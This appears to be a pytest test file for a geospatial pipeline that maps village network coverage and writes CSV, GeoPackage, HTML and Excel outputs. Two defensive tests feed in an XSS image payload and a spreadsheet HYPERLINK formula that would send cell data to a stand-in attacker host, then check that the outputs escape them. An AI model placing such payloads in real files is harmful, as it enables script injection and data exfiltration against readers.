"""The whole job on the tiny province: outputs of DESIGN §7, written atomically."""

import warnings

import geopandas as gpd
import pandas as pd
import pytest

from whitezone import files as outputs
from whitezone.pipeline import run
from whitezone.project import read_project
from whitezone.report.pdf import find_chromium

EXPECTED_FILES = {
    "villages.gpkg", "villages.csv", "communes.gpkg", "summary_communes.csv",
    "summary_districts.csv", "summary_province.csv", "summary_operators.csv", "report.html",
    "report.xlsx", "report.docx", "map.html", "run.json", "sites.gpkg", "post_offices.gpkg",
} | ({"report.pdf"} if find_chromium() else set())  # fmt: skip


def test_all_outputs_written(tiny, tiny_run):
    out = tiny.parent / "out"
    assert set(tiny_run.outputs) == EXPECTED_FILES
    assert {p.name for p in out.iterdir()} == EXPECTED_FILES   # no temp file left behind


def test_villages_csv_has_every_input_village(tiny, tiny_run):
    table = pd.read_csv(tiny.parent / "out" / "villages.csv", dtype={"village_id": str})
    assert table["village_id"].tolist() == ["V1", "V2", "V3", "V4", "V5", "V6"]
    for col in ("village_id", "village", "commune_id", "population", "class_any", "class_2g",
                "class_4g", "site_2g", "site_4g", "post_distance_km", "fixed_broadband",
                "lon", "lat", "source_row"):  # fmt: skip
        assert col in table, col
    assert "signal_dbm_4g" not in table      # the radius model computes no signal
    assert table.set_index("village_id").loc["V5", "class_any"] == "unlocated"
    # utf-8 with BOM so Excel shows accents
    assert (tiny.parent / "out" / "villages.csv").read_bytes()[:3] == b"\xef\xbb\xbf"


def test_gpkg_outputs_read_back(tiny, tiny_run):
    v = gpd.read_file(tiny.parent / "out" / "villages.gpkg")
    assert len(v) == 6 and v.crs.to_epsg() == 4326
    c = gpd.read_file(tiny.parent / "out" / "communes.gpkg")
    assert c["villages"].sum() == 6 and "pct_none" in c


def test_summary_files_reconcile(tiny, tiny_run):
    out = tiny.parent / "out"
    communes = pd.read_csv(out / "summary_communes.csv")
    province = pd.read_csv(out / "summary_province.csv")
    for col in ("villages", "villages_none", "villages_weak", "villages_good", "villages_unclassified"):
        assert communes[col].sum() == province[col].sum()


def test_report_mentions_parameters_and_escapes(tiny, tiny_run):
    html = (tiny.parent / "out" / "report.html").read_text(encoding="utf-8")
    assert "radius 4G (good / weak, km)" in html and "2.5 / 5" in html
    assert "Tiny province" in html


def test_same_inputs_same_outputs(tiny, tiny_run):
    first = (tiny.parent / "out" / "summary_communes.csv").read_bytes()
    again = run(read_project(tiny).with_output(tiny.parent / "again"))
    assert (tiny.parent / "again" / "summary_communes.csv").read_bytes() == first
    assert again.summaries.province.equals(tiny_run.summaries.province)


def test_atomic_write_keeps_old_file_on_failure(tmp_path):
    target = tmp_path / "table.csv"
    target.write_text("old", encoding="utf-8")
    with pytest.raises(RuntimeError), outputs.atomic_path(target) as tmp:
        tmp.write_text("half", encoding="utf-8")
        raise RuntimeError("crash mid-write")
    assert target.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["table.csv"]


def test_map_escapes_names(tiny, tmp_path):
    villages = (tiny.parent / "villages.csv").read_text(encoding="utf-8")
    (tiny.parent / "villages.csv").write_text(
        villages.replace("Bản Một", "<img src=x onerror=alert(1)>"), encoding="utf-8"
    )
    with pytest.warns(Warning):
        result = run(read_project(tiny).with_output(tmp_path / "o"))
    page = (tmp_path / "o" / "map.html").read_text(encoding="utf-8")
    report = (tmp_path / "o" / "report.html").read_text(encoding="utf-8")
    assert "<img src=x" not in page and "<img src=x" not in report
    # JSON-escaped inside the script (shown with textContent, never parsed as HTML)
    assert "\\u003cimg src=x" in page
    assert result.villages["village"].iloc[0] == "<img src=x onerror=alert(1)>"   # data untouched


def test_formula_like_names_stay_text_in_csv_and_excel(tiny, tmp_path):
    import openpyxl

    villages = (tiny.parent / "villages.csv").read_text(encoding="utf-8")
    name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    quoted = '"' + name.replace('"', '""') + '"'
    (tiny.parent / "villages.csv").write_text(villages.replace("Bản Một", quoted).replace(
        "Bản Hai", "-2 Bản Hai"), encoding="utf-8")  # fmt: skip
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # the tiny province's own repairs
        result = run(read_project(tiny).with_output(tmp_path / "o"))
    assert result.villages["village"].iloc[0] == name                  # data untouched
    out = pd.read_csv(tmp_path / "o" / "villages.csv", encoding="utf-8-sig", dtype=str)
    assert out["village"].iloc[0] == "'" + name                        # quoted: shown as text
    assert "-2 Bản Hai" in out["village"].tolist()                     # a number-like start is left alone
    assert (out["population"].astype(float) >= 0).all()
    book = openpyxl.load_workbook(tmp_path / "o" / "report.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]                  # no formula anywhere


def test_hexagon_outputs(tiny, tmp_path):
    pytest.importorskip("h3", reason="H3 hexagons need the h3 package (whitezone[h3])")
    from whitezone.cli import main

    assert main(["run", str(tiny), "-q", "-o", str(tmp_path / "h"), "--hexagons", "7"]) == 0
    table = pd.read_csv(tmp_path / "h" / "summary_hexagons.csv")
    assert table["villages"].sum() == 5      # the sixth village has no coordinates
    layers = gpd.list_layers(tmp_path / "h" / "hexagons.gpkg")["name"].tolist()
    assert layers == ["villages", "coverage", "layer_styles"]   # with their QGIS styles


def test_dask_engine_gives_the_same_run(tiny):
    pytest.importorskip("dask_geopandas", reason="the Dask engine needs whitezone[dask]")
    from whitezone import analyse, load_layers

    project = read_project(tiny)
    with pytest.warns(Warning):
        layers = load_layers(project)
    single = analyse(layers, project)
    tiled = analyse(layers, project, engine="dask", scheduler="synchronous")
    pd.testing.assert_frame_equal(single.summaries.communes, tiled.summaries.communes)
    pd.testing.assert_frame_equal(pd.DataFrame(single.villages), pd.DataFrame(tiled.villages))
    assert type(tiled.model) is type(single.model)


def test_counts_are_written_as_whole_numbers(tiny, tiny_run):
    lines = (tiny.parent / "out" / "villages.csv").read_text(encoding="utf-8-sig").splitlines()
    header = lines[0].split(",")
    population = [line.split(",")[header.index("population")] for line in lines[1:]]
    assert population == ["100", "200", "300", "50", "10", "40"]
